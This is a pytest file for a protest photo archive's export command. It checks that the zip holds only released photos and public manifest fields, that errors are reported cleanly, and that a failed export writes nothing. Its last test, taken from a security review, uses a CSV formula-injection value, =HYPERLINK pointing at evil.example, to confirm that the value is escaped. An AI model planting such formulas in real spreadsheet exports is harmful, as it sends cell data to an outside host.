"""``protest-archive export EVENT --out FILE.zip`` (``archive/export.py``), through the
CLI, on a real SQLite file and on real PostgreSQL: the zip holds exactly the event's
public photos (the derivative's stored bytes) and a manifest of their public facts, and
nothing private; a failed export leaves no file (and an earlier zip at the path whole).
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta
from pathlib import Path

from freezegun import freeze_time

from tests.test_retention import RELEASED, add_photo, world  # noqa: F401 - the fixture
from tests.web_client import make_user

FIELDS = ["ref", "file", "title", "event", "event_date", "credit", "licence", "released_at"]


def export(app, *args: str):
    return app.test_cli_runner().invoke(args=["export", *args])


def blob(app, key: str) -> bytes:
    return (Path(app.config["UPLOADS"]) / key).read_bytes()


def test_export_holds_the_released_photos_and_their_public_facts(world, tmp_path):  # noqa: F811
    from archive import retention
    from archive.extensions import db

    app = world
    with freeze_time(RELEASED), app.app_context():
        ben = make_user("ben@example.org")  # no credit name: "anonymous"
        first = add_photo("may-day")
        second = add_photo("may-day")
        second.photographer = ben
        second.released_at = RELEASED + timedelta(hours=1)
        db.session.commit()
        unreleased = [add_photo("may-day", state) for state in ("in_review", "hidden")]
        unreleased.append(add_photo("june-day", "rejected"))
        elsewhere = add_photo("june-day")  # released, in another event
        photos = [first, second, *unreleased, elsewhere]
        private = {p.ref: blob(app, p.master_key) for p in photos}
        private.update({f"{p.ref}.derivative": blob(app, p.derivative_key) for p in unreleased})
        expected = {p.ref: blob(app, p.derivative_key) for p in (first, second)}
        refs = first.ref, second.ref
    with freeze_time(RELEASED + timedelta(days=31)), app.app_context():
        # The two released masters go (the hidden one's waits for a moderator): a master
        # gone changes nothing in the export.
        assert [a.ref for a in retention.run()] == list(refs)

    out = tmp_path / "exports" / "may-day.zip"
    out.parent.mkdir()
    with app.app_context():
        result = export(app, "may-day", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "2 released photo(s) of May Day written to" in result.output
    assert [p.name for p in out.parent.iterdir()] == ["may-day.zip"]  # no temporary file

    with zipfile.ZipFile(out) as zf:
        assert zf.testzip() is None
        assert sorted(zf.namelist()) == sorted(
            ["manifest.json", "manifest.csv", *(f"photos/{ref}.jpg" for ref in refs)])
        for ref in refs:
            assert zf.read(f"photos/{ref}.jpg") == expected[ref]  # the exact bytes
        rows = json.loads(zf.read("manifest.json"))
        table = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode())))
        everything = b"".join(zf.read(name) for name in zf.namelist())
    assert rows == [
        {"ref": refs[0], "file": f"photos/{refs[0]}.jpg", "title": "May Day",
         "event": "may-day", "event_date": "2026-05-01", "credit": "Ana K.",
         "licence": "CC BY-NC 4.0", "released_at": "2026-06-02T10:30:00+00:00"},
        {"ref": refs[1], "file": f"photos/{refs[1]}.jpg", "title": "May Day",
         "event": "may-day", "event_date": "2026-05-01", "credit": "anonymous",
         "licence": "CC BY-NC 4.0", "released_at": "2026-06-02T11:30:00+00:00"},
    ]
    assert table == rows and list(table[0]) == FIELDS
    # Nothing private: no master, no unreleased derivative, no email, no account name.
    for what, data in private.items():
        assert data not in everything, what
    for word in (b"@example.org", b"Ana\n", b"ben", b"faces", b"metadata", b"claim",
                 b"private/"):
        assert word not in everything, word


def test_unknown_event_or_unwritable_path_is_a_clear_error(world, tmp_path):  # noqa: F811
    app = world
    with app.app_context():
        add_photo("may-day")
        unknown = export(app, "no-such-event", "--out", str(tmp_path / "x.zip"))
        assert unknown.exit_code == 2
        assert "no event with the slug 'no-such-event'" in unknown.output
        missing = tmp_path / "no-such-folder" / "x.zip"
        unwritable = export(app, "may-day", "--out", str(missing))
        assert unwritable.exit_code == 1
        assert f"could not write {missing}: No such file or directory" in unwritable.output
        assert "Traceback" not in unwritable.output
    assert not (tmp_path / "x.zip").exists() and not missing.parent.exists()


def test_a_failed_export_leaves_no_file(world, tmp_path, monkeypatch):  # noqa: F811
    """A read that fails half-way (the second photo) leaves nothing at a new path, and
    an earlier export at the same path as it was."""
    from archive.storage import LocalBlobStore

    app = world
    with freeze_time(RELEASED), app.app_context():
        for _ in range(3):
            add_photo("may-day")
    folder = tmp_path / "exports"
    folder.mkdir()
    earlier = folder / "may-day.zip"
    with app.app_context():
        assert export(app, "may-day", "--out", str(earlier)).exit_code == 0
    kept = earlier.read_bytes()

    real_open, calls = LocalBlobStore.open, []

    def failing_open(self, key):
        calls.append(key)
        if len(calls) == 2:
            raise OSError(5, "Input/output error")
        return real_open(self, key)

    monkeypatch.setattr(LocalBlobStore, "open", failing_open)
    for target in (folder / "new.zip", earlier):
        calls.clear()
        with app.app_context():
            result = export(app, "may-day", "--out", str(target))
        assert result.exit_code == 1, result.output
        assert "Input/output error" in result.output and "Nothing was written" in result.output
        assert len(calls) == 2
    assert [p.name for p in folder.iterdir()] == ["may-day.zip"]  # no new.zip, no .part
    assert earlier.read_bytes() == kept


def test_review_a_credit_that_is_a_formula_is_text_in_the_csv(world, tmp_path):  # noqa: F811
    """Found in the attacker review: a photographer's credit ``=HYPERLINK(…)`` went into
    manifest.csv as it was, a formula for whoever opens it in a spreadsheet."""
    from archive.extensions import db

    app = world
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'
    with freeze_time(RELEASED), app.app_context():
        photo = add_photo("may-day")
        photo.photographer.credit_name = formula
        db.session.commit()
    out = tmp_path / "may-day.zip"
    with app.app_context():
        assert export(app, "may-day", "--out", str(out)).exit_code == 0
    with zipfile.ZipFile(out) as zf:
        [row] = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode())))
        [entry] = json.loads(zf.read("manifest.json"))
    assert row["credit"] == "'" + formula  # text to a spreadsheet
    assert entry["credit"] == formula  # JSON is data, not a sheet: as it is
